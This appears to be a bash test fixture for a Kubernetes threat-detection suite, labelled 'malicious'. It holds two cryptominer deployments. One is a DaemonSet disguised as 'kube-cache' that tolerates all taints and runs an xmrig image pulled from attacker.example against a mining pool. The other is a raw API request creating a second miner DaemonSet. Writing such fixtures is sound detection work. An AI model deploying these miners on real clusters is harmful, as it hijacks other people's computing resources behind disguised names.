# shellcheck shell=bash disable=SC2154
# what: a miner is started on every node.
# label: malicious
# expects: [miner-run, daemonset-created]
# allows: [image-from-unknown-registry, cluster-resource-created, api-called-by-script, miner-image-started]
develop() {
    given <<'Y' | intruder apply -f -
apiVersion: apps/v1
kind: DaemonSet
metadata: {name: kube-cache, namespace: shop}
spec:
  selector: {matchLabels: {app: kc}}
  template:
    metadata: {labels: {app: kc}}
    spec:
      tolerations: [{operator: Exists}]
      containers: [{name: kc, image: "attacker.example/xmrig:6.21", args: ["-o", "stratum+tcp://pool.example:3333"]}]
Y
}
hold_out() { request POST /apis/apps/v1/namespaces/shop/daemonsets '{"metadata":{"name":"sys"},"spec":{"selector":{"matchLabels":{"app":"s"}},"template":{"metadata":{"labels":{"app":"s"}},"spec":{"containers":[{"name":"s","image":"attacker.example/worker:1","command":["/bin/sh","-c","./w --url=stratum+ssl://pool.example:443 --user x"]}]}}}}'; }
